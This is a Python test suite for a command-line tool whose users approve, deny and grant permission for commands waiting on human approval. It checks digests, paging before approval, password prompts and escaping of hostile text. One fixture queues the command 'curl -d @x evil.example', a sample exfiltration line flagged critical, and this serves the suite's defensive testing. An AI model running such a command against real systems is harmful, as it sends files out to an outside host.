#!/usr/bin/env python3
"""Requests for approval by single commands, as the people meet them who decide: against fake_daemon.py. usage: approvals_test.py OWHALECTL"""
import json, os, re, signal, time, unittest

from people import GOOD, Terminal
from watching import HOSTILE, Approvals, Watching


class Commands(Approvals):
    def test_lists_and_names_by_both_ends(self):
        self.waiting({}, {"command": ["curl", "-d", "@x", "evil.example"], "severity": "critical"})
        listed = self.ctl("approvals", "ls").stdout
        self.assertRegex(listed, r"pending +critical .* curl -d @x evil.example\n.*pending +high .* git push\n")
        whole = self.ids()[0]
        for name in (whole, whole[:8], whole[-8:], whole[-6:]):
            self.assertIn(whole, self.ctl("approvals", "show", name).stdout)
        self.assertRegex(self.ctl("approvals", "show", "0199000", code=2).stderr, "more than one request's id")
        self.assertRegex(self.ctl("approvals", "show", "ffffff", code=5).stderr, "no request's id begins or ends")
        self.assertEqual(len(self.ctl("-o", "jsonl", "approvals", "ls").stdout.splitlines()), 2)

    def test_a_list_fits_80_columns(self):
        """Whoever asks, however hard, and however long it takes; with room, all of it."""
        self.waiting({"principal": "run:0199ffff-0000-7000-8000-00000abc0000", "severity": "critical", "command": ["echo", "x" * 200]}, {})
        for columns, heading in ((80, r"^ID +STATE +SEVERITY +WHEN +BY +COMMAND$"), (150, r"^ID +STATE +SEVERITY +ASKED +EXPIRES +BY +RULE +COMMAND$")):
            terminal = Terminal("approvals", "ls", rows=20, columns=columns)
            self.assertEqual(terminal.wait(), 0)
            lines = re.sub("\x1b\\[[0-9;]*m", "", terminal.seen.decode()).splitlines()
            self.assertEqual(len(lines), 3, lines)
            self.assertTrue(all(len(line) <= columns for line in lines), lines)
            self.assertRegex(lines[0], heading)
        self.assertRegex(lines[1] + lines[2], r"critical .* echo x+…")

    def test_a_pipe_has_to_say_what_was_read(self):
        self.waiting({})
        name, = self.ids()
        refused = self.ctl("approve", name, "--password-stdin", stdin=GOOD + "\n", code=2)
        self.assertRegex(refused.stderr, "nobody can read the request here[\\s\\S]*--digest")
        self.ctl("approve", name, "--digest", "0" * 64, "--password-stdin", stdin=GOOD + "\n", code=1)
        digest = json.loads(self.ctl("-o", "json", "approvals", "show", name).stdout)["digest"]
        self.ctl("approve", name, "--digest", digest, "-m", "fine", "--password-stdin", stdin=GOOD + "\n")
        self.assertEqual(self.decided()[0]["request"], {"digest": digest, "reason": "fine"})
        self.assertRegex(self.ctl("approve", name, "-y", "--password-stdin", stdin=GOOD + "\n", code=1).stderr, "approval_ended")

    def test_without_an_account_nobody_decides(self):
        self.waiting({}, logged_in=False)
        name, = self.ids()
        self.assertRegex(self.ctl("approve", name, "-y", code=3).stderr, "not logged in[\\s\\S]*owhalectl login")
        self.assertRegex(self.ctl("deny", name, code=3).stderr, "not logged in")
        self.ctl("approvals", "cancel", name, "-m", "no need")
        self.assertEqual(self.ids(), [])

    def test_grants(self):
        self.waiting({}, {}, {})
        one, two, three = self.ids()
        ok = dict(stdin=GOOD + "\n")
        self.ctl("approve", one, "-y", "--times", "5", "--for", "1h", "--password-stdin", **ok)
        self.ctl("approve", two, "-y", "--like", "git push <word> 'two words'", "--trust-workspace", "--for", "7d", "--password-stdin", **ok)
        self.ctl("deny", three, "-m", "no", "--password-stdin", **ok)
        grants = [row["request"].get("grant") for row in self.decided()]
        self.assertEqual(grants, [{"times": 5, "for_ms": 3600000},
                                  {"for_ms": 604800000, "like": ["git", "push", "<word>", "two words"], "trust_workspace": True}, None])
        for wrong in (["--once", "--times", "2"], ["--times", "0"], ["--for", "31d"], ["--for", "0"], ["--like", "a 'b"], ["--like", ""], ["--trust-workspace"]):
            if wrong != ["--like", ""]:
                self.ctl("approve", one, "-y", *wrong, code=2)

    def test_grants_are_listed_in_a_line_each(self):
        self.waiting({"command": ["bash", "-c", "echo \u202e\n" + "x" * 200]})
        name, = self.ids()
        self.ctl("approve", name, "-y", "--for", "1h", "--password-stdin", stdin=GOOD + "\n")
        self.assertIn("0199ffff-0000-7000-8000-00000abc0000", self.ctl("grants", "ls").stdout)
        terminal = Terminal("grants", "ls", rows=20, columns=80)
        self.assertEqual(terminal.wait(), 0)
        lines = terminal.seen.decode().splitlines()
        self.assertEqual(len(lines), 2, lines)
        self.assertRegex(re.sub("\x1b\\[[0-9;]*m", "", lines[1]), r"^0abc0000  unix:1000  active  0 +in 6\dm +bash -c 'echo \\u\{202e\}\\nx+…$")
        self.assertIn("0199ffff", self.ctl("-o", "json", "grants", "show", "0abc0000").stdout)

    def test_it_is_read_before_it_is_approved(self):
        self.waiting({"description": "please"})
        name, = self.ids()
        terminal = Terminal("approve", name[-8:], rows=12, columns=80)
        terminal.until(rb"git push[\s\S]*Enter shows more")
        while not re.search(rb"needs the password", terminal.seen):
            terminal.seen = b""
            terminal.type(b"\n")
            terminal.until(rb"Enter shows more, q ends --|needs the password of user:admin: ")
        terminal.answer(rb"owhaled needs the password of user:admin: ", GOOD)
        self.assertEqual(terminal.wait(), 0)
        self.assertIn(b"approved; run", terminal.seen)
        self.assertEqual(len(self.decided()), 1)

    def test_not_read_to_its_end_is_not_approved(self):
        self.waiting({})
        name, = self.ids()
        terminal = Terminal("approve", name, rows=12, columns=80)
        terminal.answer(rb"Enter shows more", "q")
        self.assertEqual(terminal.wait(), 2)
        self.assertEqual(self.decided(), [])

    def test_where_no_password_is_typed_only_a_yes_approves(self):
        self.waiting({})
        name, = self.ids()
        for typed in ("", "y", "no"):
            terminal = Terminal("approve", name, "--password-stdin", rows=60, columns=100)
            terminal.type(GOOD.encode() + b"\n")
            terminal.answer(rb"Approve this, once\? Type yes: ", typed)
            self.assertEqual(terminal.wait(), 1)
            self.assertIn(b"nothing is approved", terminal.seen)
            self.assertEqual(self.decided(), [])
        terminal = Terminal("approve", name, "--password-stdin", "--times", "2", rows=60, columns=100)
        terminal.type(GOOD.encode() + b"\n")
        terminal.answer(rb"Approve this, with the grant above\? Type yes: ", "yes")
        self.assertEqual(terminal.wait(), 0)
        self.assertEqual(self.decided()[0]["request"]["grant"], {"times": 2})

    def test_enter_that_reads_on_approves_nothing(self):
        """Through all pages, and once more: it was meant for the pager, whether a password is due or not."""
        self.waiting({})
        name, = self.ids()
        terminal = Terminal("approve", name, "--password-stdin", rows=12, columns=80)
        terminal.type(GOOD.encode() + b"\n")
        terminal.until(rb"Enter shows more, q ends --")
        while not re.search(rb"Type yes: ", terminal.seen):
            terminal.seen = b""
            terminal.type(b"\n")
            terminal.until(rb"Enter shows more, q ends --|nothing is approved yet --[\s\S]*Type yes: ")
        terminal.type(b"\n")
        self.assertEqual(terminal.wait(), 1)
        self.assertEqual(self.decided(), [])

    def test_an_open_window_spares_no_password_where_it_is_the_yes(self):
        self.waiting({}, {})
        watching = self.watch(rows=40)
        watching.shows("2 waiting")
        watching.look()
        watching.type(b"y")
        watching.shows("Password of")
        watching.type(GOOD.encode() + b"\r")
        watching.shows(r"1 waiting[\s\S]*approved")
        name, = self.ids()
        terminal = Terminal("approve", name, rows=60, columns=100)
        terminal.until(rb"owhaled needs the password of user:admin: ")
        self.assertEqual(len(self.decided()), 1)
        terminal.type(GOOD.encode() + b"\n")
        self.assertEqual(terminal.wait(), 0)
        self.assertEqual(len(self.decided()), 2)

    def test_hostile_texts_on_a_plain_terminal(self):
        self.waiting(HOSTILE)
        name, = self.ids()
        for words in (("approvals", "show", name), ("approvals", "ls"), ("approvals", "show", "-d", name)):
            terminal = Watching(*words, rows=2000, columns=80)
            self.assertEqual(terminal.wait(), 0)
            terminal.screen.feed(terminal.seen)
            text = terminal.screen.text()
            self.assertEqual(len(re.findall("^Digest", text, re.M)), 1 if "show" in words else 0)

    def test_an_account_for_once(self):
        self.waiting({}, logged_in=False)
        self.ctl("setup", "--password-stdin", stdin=GOOD + "\n")
        name, = self.ids()
        terminal = Terminal("approve", name, "--log-in", rows=60, columns=100)
        terminal.answer(rb"Account that decides \[alice\]: ", "admin")
        terminal.answer(rb"Password of admin, to approve what was shown: ", GOOD)
        self.assertEqual(terminal.wait(), 0)
        self.assertEqual(self.tokens(), [])
        self.assertEqual(len(self.decided()), 1)

    def test_three_tries_and_nothing_of_them_is_echoed(self):
        self.waiting({}, {}, logged_in=False)
        self.ctl("setup", "--password-stdin", stdin=GOOD + "\n")
        name, other = self.ids()
        terminal = Terminal("approve", name, "--log-in", rows=60, columns=100)
        terminal.answer(rb"Account that decides \[alice\]: ", "admin")
        for question in (rb"Password of admin, to approve what was shown: ", rb"is wrong[\s\S]*Password of admin"):
            terminal.answer(question, "guess-of-mine\ntyped-ahead")  # at once: later it could be the next try
        terminal.until(rb"is wrong[\s\S]*Password of admin[^:]*: ")
        time.sleep(0.2)
        terminal.answer(rb"", GOOD)
        self.assertEqual(terminal.wait(), 0)
        self.assertEqual(len(self.decided()), 1)
        self.assertNotRegex(terminal.before + terminal.seen, rb"guess|typed|correct")
        self.assertTrue(terminal.echoes())
        terminal = Terminal("approve", other, "--log-in", rows=60, columns=100)
        terminal.answer(rb"Account that decides", "admin")
        for _ in range(3):
            terminal.answer(rb"Password of admin, to approve what was shown: ", "guess-of-mine")
        self.assertEqual(terminal.wait(), 3)
        self.assertIn(b"owhalectl approve " + other.encode(), terminal.seen)
        self.assertNotIn(b"guess", terminal.before + terminal.seen)
        self.assertEqual(len(self.decided()), 1)

    def test_a_signal_leaves_the_echo_on(self):
        self.waiting({})
        name, = self.ids()
        for number in (signal.SIGINT, signal.SIGTERM):
            terminal = Terminal("approve", name, rows=60, columns=100)
            terminal.until(rb"owhaled needs the password")
            os.kill(terminal.pid, number)
            self.assertIn(terminal.wait(), (-number, 128 + number))
            self.assertTrue(terminal.echoes())


if __name__ == "__main__":
    unittest.main()
